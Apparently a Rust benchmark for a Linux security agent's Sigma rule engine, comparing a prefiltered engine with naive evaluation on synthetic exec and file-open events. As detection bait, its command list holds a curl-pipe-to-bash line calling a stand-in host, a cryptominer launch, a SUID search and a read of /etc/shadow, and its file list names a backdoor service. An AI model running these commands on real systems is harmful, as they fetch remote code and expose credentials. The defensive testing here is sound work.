//! The Sigma half of `make bench`: events per second per core through the engine (logsource
//! index and literal prefilter, sigma-rust deciding the rules the prefilter admits) against
//! sigma-rust evaluating every rule on every view of every event, with the shipped rules and
//! SigmaHQ's Linux rules (all of them where `$VIGIL_SIGMAHQ_LINUX` names a checkout's
//! `rules/linux`, else the shared test data's subset), then with that rule set loaded ten times
//! over to show how each approach scales with the number of rules. Two mixes: an exec storm of
//! ordinary commands and file opens, and the same with the commands and files the rules are
//! written to catch. Both approaches must raise the same alerts (the run asserts it).
//!
//! `--engine-only SECONDS` runs the engine alone on the ordinary mix, the rules loaded once,
//! for that long, and prints its rate: for profiling it, and for comparing two builds in runs
//! that alternate.

use std::{
    path::{Path, PathBuf},
    sync::Arc,
    time::Instant,
};

use vigil_events::{
    Arg, Credentials, Detail, Event, EventBody, FileArg, Process, ProcessExec, ProcessPolicy,
};
use vigil_policy_engine::sigma::SigmaEngine;

// The engine runs in the agent on the agent's heap.
#[global_allocator]
static ALLOCATOR: vigil_allocator::Mimalloc = vigil_allocator::Mimalloc;

/// Command lines of an ordinary busy machine (builds, services, shells), with a few that the
/// rules are written to catch.
const COMMANDS: [(&str, &str); 24] = [
    ("/usr/bin/git", "status --porcelain"),
    ("/usr/bin/make", "-j2 all"),
    ("/usr/bin/cc", "-O2 -c main.c -o main.o"),
    ("/usr/bin/ld", "-o app main.o util.o -lc"),
    ("/usr/bin/ls", "-la /var/lib"),
    ("/usr/bin/grep", "-rn TODO src"),
    ("/usr/bin/sed", "-i s/foo/bar/ config.ini"),
    ("/usr/bin/python3", "manage.py runserver 0.0.0.0:8000"),
    ("/usr/bin/node", "server.js --port 3000"),
    ("/usr/bin/cat", "/proc/meminfo"),
    ("/usr/sbin/sshd", "-D -R"),
    ("/usr/bin/systemctl", "status nginx"),
    ("/usr/bin/curl", "-s https://example.org/health"),
    ("/usr/bin/tar", "-xzf release.tar.gz -C /opt/app"),
    ("/usr/bin/ps", "aux"),
    ("/usr/bin/sleep", "30"),
    ("/usr/bin/journalctl", "-u app --since today"),
    ("/usr/bin/awk", "{print $1} access.log"),
    ("/usr/bin/sort", "-u names.txt"),
    ("/usr/bin/bash", "-c ./run-tests.sh"),
    (
        "/usr/bin/bash",
        "-c \"curl -s http://x.invalid/i.sh | bash\"",
    ),
    ("/usr/bin/nohup", "./miner --donate-level=0"),
    ("/usr/bin/find", "/ -perm -4000 -type f"),
    ("/usr/bin/cat", "/etc/shadow"),
];

/// Files an ordinary machine opens, written to or read, with a few the rules watch.
const FILES: [&str; 8] = [
    "/home/dev/project/src/main.c",
    "/var/log/app/access.log",
    "/tmp/build-1234/obj.o",
    "/usr/lib/x86_64-linux-gnu/libc.so.6",
    "/etc/ld.so.cache",
    "/proc/self/status",
    "/etc/ld.so.preload",
    "/etc/systemd/system/backdoor.service",
];

fn event(body: EventBody) -> Event {
    Event {
        body,
        node_name: "bench".into(),
        node_labels: Default::default(),
        time: "2026-11-25T00:00:00Z".into(),
    }
}

/// Mixes made at a time for the engine: its timed runs are some milliseconds each.
const ENGINE_BATCH: u64 = 200;

/// Commands and files of an ordinary busy machine: the first ones of each list.
const ORDINARY_COMMANDS: usize = 20;
const ORDINARY_FILES: usize = 6;

/// A mix of execs of `commands` and file events of `files` from the execs' processes. Mix 0 is
/// the lists as written; mix `n` adds `n` to every command line as its last argument and names
/// its build directory by `n`, as a busy machine's commands differ by their file names and
/// numbers while its binaries, parents and directories repeat. The engine remembers what short
/// fields admitted, so a bench that looped over the same few command lines would measure that
/// memory, not the engine.
/// Root's credentials, read from the kernel as the agent's are (not written in events by
/// default, but in its auditd records).
fn known_credentials() -> Credentials {
    Credentials {
        detail: Detail::Kept,
        ..Default::default()
    }
}

fn events(commands: &[(&str, &str)], files: &[&str], mix: u64) -> Vec<Event> {
    let parent = Arc::new(Process {
        binary: "/usr/bin/bash".into(),
        arguments: "-l".into(),
        pid: 100,
        process_credentials: known_credentials(),
        ..Default::default()
    });
    let execs: Vec<Event> = commands
        .iter()
        .enumerate()
        .map(|(i, (bin, args))| {
            event(EventBody::ProcessExec(ProcessExec {
                process: Arc::new(Process {
                    binary: bin.to_string(),
                    arguments: match mix {
                        0 => args.to_string(),
                        n => format!("{args} {n}"),
                    },
                    pid: 1000 + i as u32,
                    cwd: "/home/dev/project".into(),
                    process_credentials: known_credentials(),
                    ..Default::default()
                }),
                parent: Some(parent.clone()),
                ancestors: vec![],
            }))
        })
        .collect();
    let files = files.iter().zip(&execs).map(|(path, exec)| {
        let EventBody::ProcessExec(x) = &exec.body else {
            unreachable!("the execs above")
        };
        event(EventBody::ProcessKprobe(Box::new(ProcessPolicy {
            process: x.process.clone(),
            parent: x.parent.clone(),
            function_name: "security_file_open".into(),
            args: vec![Arg::FileArg(FileArg {
                path: match mix {
                    0 => path.to_string(),
                    n => path.replace("build-1234", &format!("build-{n}")),
                },
                ..Default::default()
            })],
            policy_name: "observe-file-changes".into(),
            action: "KPROBE_ACTION_POST".into(),
            ..Default::default()
        })))
    });
    let mut all: Vec<Event> = files.collect();
    all.extend(execs);
    all
}

/// A mix of commands and files: the lists an [`events`] mix is made of.
type Mix<'a> = (&'a [(&'a str, &'a str)], &'a [&'a str]);

/// Events per second through `f` over about `secs` seconds of its own time, each event of a
/// mix never given before (mixes from 1 on, `batch` at a time, made between the timed runs);
/// and the alerts it counts on mix 0.
fn rate(mix: Mix, batch: u64, secs: f64, mut f: impl FnMut(&Event) -> usize) -> (f64, usize) {
    let first = events(mix.0, mix.1, 0);
    let per_pass: usize = first.iter().map(&mut f).sum();
    let again: usize = first.iter().map(&mut f).sum();
    assert_eq!(
        per_pass, again,
        "an event seen again must raise what it raised"
    );
    let mut spent = 0.0;
    let mut n = 0usize;
    let mut next = 1u64;
    while spent < secs {
        let events: Vec<Event> = (next..next + batch)
            .flat_map(|m| events(mix.0, mix.1, m))
            .collect();
        next += batch;
        let start = Instant::now();
        for e in &events {
            std::hint::black_box(f(e));
        }
        spent += start.elapsed().as_secs_f64();
        n += events.len();
    }
    (n as f64 / spent, per_pass)
}

/// SigmaHQ's Linux rules where a checkout's `rules/linux` is named by `$VIGIL_SIGMAHQ_LINUX`
/// (every rule of the directory, whichever load), else the shared test data's subset.
fn rule_sets(root: &Path) -> (Vec<PathBuf>, String) {
    match std::env::var_os("VIGIL_SIGMAHQ_LINUX") {
        Some(dir) => {
            let dir = PathBuf::from(dir);
            let said = format!("SigmaHQ's rules/linux ({})", dir.display());
            (vec![root.join("rules/sigma"), dir], said)
        }
        None => (
            vec![root.join("rules/sigma"), vigil_tests::sigma_rules_dir()],
            "the shared test data's SigmaHQ subset (set VIGIL_SIGMAHQ_LINUX to a checkout's \
             rules/linux for all of them)"
                .into(),
        ),
    }
}

fn main() {
    let root = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("..");
    let (sets, said) = rule_sets(&root);
    let (engine, refused) = SigmaEngine::load(&sets);
    println!(
        "Rules: vigil's and {said}: {} loaded, {} refused{}",
        engine.rules().len(),
        refused.len(),
        refused
            .iter()
            .map(|e| format!("\n  - {e}"))
            .collect::<String>()
    );
    let args: Vec<String> = std::env::args().collect();
    if let Some(at) = args.iter().position(|a| a == "--engine-only") {
        let secs: f64 = args
            .get(at + 1)
            .and_then(|s| s.parse().ok())
            .expect("--engine-only takes a number of seconds");
        let mix = (&COMMANDS[..ORDINARY_COMMANDS], &FILES[..ORDINARY_FILES]);
        let (fast, alerts) = rate(mix, ENGINE_BATCH, secs, |e| engine.evaluate(e).len());
        println!(
            "engine alone, ordinary exec storm: {fast:.0} events/s ({alerts} alerts per pass)"
        );
        return;
    }
    let mixes: [(&str, Mix); 2] = [
        (
            "ordinary exec storm",
            (&COMMANDS[..ORDINARY_COMMANDS], &FILES[..ORDINARY_FILES]),
        ),
        ("with what the rules catch", (&COMMANDS, &FILES)),
    ];
    println!("| events | rules loaded | engine (logsource index + literal prefilter) | sigma-rust, every rule on every event | ratio | alerts per pass (both) |");
    println!("|---|---|---|---|---|---|");
    for copies in [1usize, 10] {
        let paths: Vec<PathBuf> = (0..copies).flat_map(|_| sets.clone()).collect();
        let (engine, errors) = SigmaEngine::load(&paths);
        assert_eq!(errors.len(), refused.len() * copies, "{errors:?}");
        for (name, mix) in mixes {
            let (fast, fast_alerts) = rate(mix, ENGINE_BATCH, 1.0, |e| engine.evaluate(e).len());
            let (slow, slow_alerts) = rate(mix, 1, 1.0, |e| engine.evaluate_naive(e));
            assert_eq!(
                fast_alerts, slow_alerts,
                "the prefilter must not lose a match"
            );
            println!(
                "| {name} ({} events) | {} | {fast:.0} events/s | {slow:.0} events/s | {:.1}× | {fast_alerts} |",
                mix.0.len() + mix.1.len(),
                engine.rules().len(),
                fast / slow
            );
        }
    }
}
